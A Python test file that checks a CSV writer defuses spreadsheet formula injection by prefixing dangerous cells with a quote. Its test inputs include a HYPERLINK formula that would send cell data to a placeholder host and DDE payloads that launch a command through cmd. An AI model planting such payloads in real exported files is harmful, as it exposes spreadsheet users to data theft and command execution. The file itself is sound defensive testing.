"""Tables for spreadsheets, in which nobody's text is a formula."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import backend
import console
from backend.csv_text import comma_separated

_FIRST = "=+-@\t\r\n"


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a/?"&A1,"here")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "-type:product.*",
        "+A1",
    ],
)
def test_that_a_text_that_begins_as_a_formula_is_written_behind_a_quote(text: str) -> None:
    assert read_back(comma_separated([("a", text)])) == [["a", f"'{text}"]]


@pytest.mark.parametrize(
    "cell",
    [
        *("-5", "+1.25", "-1 250", "-1.5e-05", "-12.50 EUR", "+2.5 ms", "-3 %", "+1 min 5 s"),
        *("-7/s", "-4 events/s", "", "-", "+", "a=b", "12-3", "'=1", '{"a": "=1"}', "2026-11-26"),
    ],
)
def test_that_numbers_and_other_texts_are_written_as_they_are(cell: str) -> None:
    assert read_back(comma_separated([(cell, "x")])) == [[cell, "x"]]


def test_that_what_is_no_text_stays_a_number() -> None:
    assert comma_separated([(-5, -0.25, None, 7)]) == "-5,-0.25,,7\r\n"


@given(st.text())
def test_that_no_cell_begins_as_a_formula_but_a_number(text: str) -> None:
    [[cell]] = read_back(comma_separated([(text,)])) or [[""]]
    assert cell.removeprefix("'") == text.removeprefix("'")
    if len(cell) > 1 and cell[0] in _FIRST:
        assert cell[1].isdigit()
        assert not set(cell[1:]) & set("=@|!()&*^<>\"'[]{}$#;")


def test_that_tables_for_spreadsheets_are_written_in_one_place() -> None:
    paths = [path for root in (backend, console) for path in Path(root.__path__[0]).rglob("*.py")]
    found = {path.name for path in paths if "csv.writer" in path.read_text()}
    assert found == {"csv_text.py", "table_text.py"}  # that one: for the clipboard, by tabs
